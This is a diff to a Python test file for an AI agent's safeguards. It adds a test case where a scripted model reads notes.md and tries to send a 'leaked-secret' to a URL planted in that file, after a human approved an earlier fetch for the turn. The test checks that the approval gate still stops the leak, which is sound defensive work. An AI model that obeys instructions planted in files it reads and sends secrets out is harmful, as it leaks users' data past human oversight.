@@ -8,7 +8,9 @@ way). Nothing may reach it without a human's approval:
 1. through a command's output (``run_command "cat notes.md"``, which runs without approval);
 2. through an error message that quotes remote content (a network tool that fails);
 3. through long-term memory, in a later session (the memory was approved into the store);
-4. through plan-and-execute, after the task escalated to a human and was resumed.
+4. through plan-and-execute, after the task escalated to a human and was resumed;
+5. through a standing approval: the human approved a fetch "for this turn" before the poison
+   arrived.
 """
 
 from __future__ import annotations
@@ -29,6 +31,7 @@ from providers.scripted_gateway import ScriptedLLMGateway, ScriptedToolCall, Scr
 from shared.agent_protocol import (
     ApprovalDecision,
     ChatMessage,
+    RiskLevel,
     TaskRequest,
     TaskStatus,
     ToolMessage,
@@ -299,3 +302,40 @@ async def test_an_untainted_task_still_fetches_without_asking(tmp_path: Path, si
         result = await kernel.execute_task(TaskRequest(task="Ping the service."))
     assert result.status is TaskStatus.SUCCEEDED
     assert sink.requests == ["/collect?d=public"]
+
+
+async def test_through_an_approval_given_for_the_turn_before_the_poison(
+    tmp_path: Path, sink: Sink
+) -> None:
+    obedient = ObedientModel()
+
+    def model(messages: Sequence[ChatMessage]) -> ScriptedTurn:
+        done = [m.name for m in messages if isinstance(m, ToolMessage)]
+        if not done:
+            return fetch(f"{sink.url}?d=weather")  # what the human approves, for the turn
+        if done == ["http_fetch"]:
+            return ScriptedTurn(
+                tool_calls=[
+                    ScriptedToolCall(name="run_command", arguments={"command": "cat notes.md"})
+                ]
+            )
+        if len(done) == 2:
+            return fetch(f"{ORDER.findall(messages[-1].content or '')[-1]}?d=leaked-secret")
+        return obedient(messages)
+
+    asked: list[str] = []
+
+    def approve_for_the_turn_what_is_not_a_leak(request: Any) -> ApprovalDecision:
+        call = request.tool_call
+        asked.append(f"{call.name} {call.arguments}")
+        leak = "leaked" in str(call.arguments)
+        return ApprovalDecision(request_id=request.request_id, approved=not leak, scope="task")
+
+    # Network calls need a human even untainted, so the first fetch is asked about.
+    kernel = kernel_for(tmp_path, sink, model, policy_approval_required_risk=RiskLevel.MEDIUM)
+    kernel.set_approval_callback(approve_for_the_turn_what_is_not_a_leak)
+    async with kernel:
+        result = await kernel.execute_task(TaskRequest(task="Weather?", force_mode="react"))
+    assert result.status is TaskStatus.SUCCEEDED
+    assert sink.requests == ["/collect?d=weather"]
+    assert asked[0].startswith("http_fetch") and "leaked-secret" in asked[-1]
